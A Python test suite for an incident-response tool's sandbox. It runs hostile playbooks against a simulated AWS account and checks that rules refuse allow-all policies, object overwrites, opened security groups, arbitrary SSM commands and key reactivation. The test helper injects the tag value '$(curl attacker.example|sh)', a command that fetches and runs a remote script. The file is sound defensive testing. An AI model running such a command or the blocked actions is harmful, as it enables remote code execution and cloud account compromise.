"""Hostile playbooks against the allow-list's argument rules (issue 11, class
8): each file of tests/hostile/rules/ runs alone, live, on a simulated
account, and tries to use allow-listed writes destructively. For each: the
process ends by itself (no signal) within its budget, every step failed with
"refused by rule <name>", the fake AWS's request log holds none of the
refused requests (the proof that nothing left the sandbox), every journal
line is JSON, and boto3 sees the world as it was.

What moto cannot show: that AWS would have done harm with the refused
requests. That is the point: they are never sent, which the log shows."""

import os
import shutil
import tempfile
import time
import unittest

from harness.world import ROOT, WorldTestCase
from playbook_cases import finding, instance_resource, notification_queue, run

HOSTILE = os.path.join(ROOT, "tests", "hostile", "rules")
TYPE = "UnauthorizedAccess:EC2/SSHBruteForce"
BUDGET_S = 30  # a run of refusals takes well under a second; this is the margin


class HostileRulesCase(WorldTestCase):
    def setUp(self):
        super().setUp()
        self.inst = self.world.instance()
        self.artifacts = self.world.bucket("deadbolt-artifacts")
        self.victim_bucket = self.world.bucket("victim-data")
        self.world.s3.put_object(Bucket="victim-data", Key="ledger.csv", Body=b"the real ledger")
        self.user = self.world.iam_user("victim", keys=1)
        self.world.iam.update_access_key(UserName="victim", AccessKeyId=self.user.keys[0]["id"],
                                         Status="Inactive")
        self.world.role("victim-role")
        self.world.ssm_managed([self.inst.id])
        topic, _ = notification_queue(self.world)
        self.env = {"ARTIFACT_BUCKET": self.artifacts, "NOTIFICATION_TOPIC_ARN": topic,
                    "QUARANTINE_PROFILE_ARN": "arn:aws:iam::123456789012:instance-profile/quarantine"}

    def hostile(self, name):
        """Runs tests/hostile/rules/<name>.lua alone; returns the Run."""
        tmp = tempfile.mkdtemp(prefix="deadbolt-hostile-")
        self.addCleanup(shutil.rmtree, tmp, True)
        shutil.copy(os.path.join(HOSTILE, name + ".lua"), tmp)
        shutil.copy(os.path.join(HOSTILE, "config.lua"), tmp)
        resource = instance_resource(self.inst.id)
        resource["instanceDetails"]["tags"] = [{"key": "Name", "value": "$(curl attacker.example|sh)"}]
        start = time.monotonic()
        result = run(self.world, finding(TYPE, resource), env=self.env, playbooks=tmp)
        elapsed = time.monotonic() - start
        self.assertIn(result.rc, (0, 1), result.describe())  # never a signal, never a usage error
        self.assertLess(elapsed, BUDGET_S)
        self.assertTrue(result.lines, "the journal has lines")
        return result

    def assert_refused(self, result, rules):
        """Every step failed, each with one of rules' refusals."""
        steps = result.only()["steps"]
        self.assertTrue(steps)
        for name, step in steps.items():
            self.assertEqual(step["status"], "failed", (name, step))
            self.assertTrue(any(f"refused by rule {r}:" in step["error"] for r in rules),
                            (name, step["error"]))

    def assert_never_sent(self, *actions):
        sent = [e["action"] for e in self.world.log()]
        for action in actions:
            self.assertNotIn(action, sent, f"{action} reached AWS: {sent}")


class TestHostileRules(HostileRulesCase):
    def test_policies_written_by_a_playbook_only_deny(self):
        result = self.hostile("policy_allow_all")
        self.assert_refused(result, ["deny-only"])
        self.assert_never_sent("PutUserPolicy", "PutRolePolicy")
        self.assertEqual(self.world.iam.list_user_policies(UserName="victim")["PolicyNames"], [])
        self.assertEqual(self.world.iam.list_role_policies(RoleName="victim-role")["PolicyNames"], [])

    def test_objects_go_only_to_the_runs_prefix_and_are_never_overwritten(self):
        result = self.hostile("object_overwrite")
        self.assert_refused(result, ["evidence-object"])
        self.assert_never_sent("PutObject")
        body = self.world.s3.get_object(Bucket="victim-data", Key="ledger.csv")["Body"].read()
        self.assertEqual(body, b"the real ledger")
        self.assertNotIn("Contents", self.world.s3.list_objects_v2(Bucket=self.artifacts))

    def test_rules_are_authorised_only_on_deadbolts_groups(self):
        open_group = self.world.ec2.create_security_group(
            GroupName="wide-open", Description="allows everything in", VpcId=self.inst.vpc)["GroupId"]
        self.world.ec2.authorize_security_group_ingress(GroupId=open_group, IpPermissions=[
            {"IpProtocol": "-1", "IpRanges": [{"CidrIp": "0.0.0.0/0"}]}])
        before = self.world.ec2.describe_security_groups(GroupIds=[self.inst.sg])["SecurityGroups"][0]
        result = self.hostile("open_any_group")
        self.assert_refused(result, ["ingress-own-group", "egress-own-group", "no-group-tag",
                                     "revoke-own-group", "eni-own-groups"])
        self.assert_never_sent("AuthorizeSecurityGroupIngress", "AuthorizeSecurityGroupEgress",
                               "RevokeSecurityGroupEgress", "CreateTags",
                               "ModifyNetworkInterfaceAttribute")
        enis = self.world.ec2.describe_network_interfaces(
            NetworkInterfaceIds=self.inst.enis)["NetworkInterfaces"]
        self.assertEqual([[g["GroupId"] for g in e["Groups"]] for e in enis], [[self.inst.sg]],
                         "the instance is still in its own group only")
        after = self.world.ec2.describe_security_groups(GroupIds=[self.inst.sg])["SecurityGroups"][0]
        self.assertEqual((after["IpPermissions"], after["IpPermissionsEgress"], after.get("Tags", [])),
                         (before["IpPermissions"], before["IpPermissionsEgress"], before.get("Tags", [])))
        hostile = self.world.ec2.describe_security_groups(Filters=[
            {"Name": "group-name", "Values": ["hostile-isolation"]}])["SecurityGroups"]
        self.assertEqual([g["IpPermissions"] for g in hostile], [[]], "the isolation group got no ingress")
        self.assertFalse([p for g in hostile for p in g["IpPermissionsEgress"]
                          if p.get("FromPort") == 443], "nor the forbidden egress")

    def test_public_access_blocks_are_only_tightened(self):
        result = self.hostile("public_access_off")
        self.assert_refused(result, ["block-all"])
        self.assert_never_sent("PutPublicAccessBlock")
        with self.assertRaises(Exception):
            self.world.s3.get_public_access_block(Bucket="victim-data")

    def test_commands_come_only_from_the_configuration(self):
        result = self.hostile("ssm_any_command")
        self.assert_refused(result, ["config-commands"])
        self.assert_never_sent("SendCommand")
        self.assertEqual(self.world.ssm_commands(), [])
        errors = " ".join(s["error"] for s in result.only()["steps"].values())
        self.assertIn("is not one of config.forensics.commands", errors)
        self.assertIn("is not config.forensics.document", errors)
        self.assertIn("member Targets is not allowed", errors)

    def test_no_profile_key_or_topic_but_the_runs_own(self):
        result = self.hostile("powers_and_leaks")
        self.assert_refused(result, ["quarantine-profile", "deactivate-only", "own-topic"])
        self.assert_never_sent("AssociateIamInstanceProfile", "UpdateAccessKey", "Publish")
        keys = self.world.iam.list_access_keys(UserName="victim")["AccessKeyMetadata"]
        self.assertEqual([k["Status"] for k in keys], ["Inactive"])

    def test_no_eni_stays_in_the_allow_all_group_after_its_step(self):
        result = self.hostile("eni_left_open")
        self.assertEqual(result.step_status("open_and_stop"), "failed")
        moves = [c["params"]["Groups"] for c in result.calls()
                 if c["op"] == "ec2.ModifyNetworkInterfaceAttribute"]
        self.assertEqual(len(moves), 2, "the playbook's move, then the sandbox's move back")
        self.assertEqual(moves[1], [self.inst.sg])
        enis = self.world.ec2.describe_network_interfaces(
            NetworkInterfaceIds=self.inst.enis)["NetworkInterfaces"]
        self.assertEqual([[g["GroupId"] for g in e["Groups"]] for e in enis], [[self.inst.sg]])
        self.assertTrue(any("was left in deadbolt's allow-all group" in m for m in result.only()["logs"]),
                        result.only()["logs"])

    def test_every_door_has_a_hostile_playbook_here(self):
        files = sorted(f[:-4] for f in os.listdir(HOSTILE) if f.endswith(".lua") and f != "config.lua")
        tested = sorted(["policy_allow_all", "object_overwrite", "open_any_group", "public_access_off",
                         "ssm_any_command", "powers_and_leaks", "eni_left_open"])
        self.assertEqual(files, tested, "a file in tests/hostile/rules/ without a test")


if __name__ == "__main__":
    unittest.main()
